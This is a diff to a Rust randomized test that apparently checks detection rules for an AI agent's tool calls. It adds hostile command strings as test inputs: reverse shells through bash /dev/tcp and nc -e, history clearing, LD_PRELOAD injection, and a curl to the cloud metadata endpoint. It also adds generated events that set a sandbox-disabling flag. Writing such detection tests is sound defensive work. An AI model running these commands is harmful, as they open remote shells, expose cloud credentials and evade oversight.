@@ -94,6 +94,13 @@ fn random_events_agree() {
         "\n",
         "ünïcödé ",
         "git status",
+        // The shipped Sigma rules.
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "history -c",
+        "echo history -c",
+        "LD_PRELOAD=/tmp/x.so make",
+        "curl http://169.254.169.254/latest/meta-data/",
     ];
     let stages = [
         "message.before",
@@ -109,7 +116,16 @@ fn random_events_agree() {
             .collect();
         let stage = rng.pick(&stages);
         let tool = rng.pick(&tools);
-        let event = match rng.next() % 4 {
+        let event = match rng.next() % 6 {
+            4 => {
+                json!({"stage": stage, "params": {"temperature": (rng.next() % 30) as f64 / 10.0}})
+            }
+            5 => json!({"stage": stage, "tool_name": tool, "tool_args": {
+                "command": text,
+                "host": rng.pick(&["169.254.169.254", "10.0.0.1", "fd00:ec2::254", "example.com"]),
+                "dangerouslyDisableSandbox": rng.next().is_multiple_of(2),
+                "env": {"LD_PRELOAD": "/x.so"},
+            }}),
             0 => json!({"stage": stage, "tool_name": tool, "tool_args": {"command": text}}),
             1 => {
                 json!({"stage": stage, "tool_name": tool, "tool_args": {"command": text.split(' ').collect::<Vec<_>>()}})
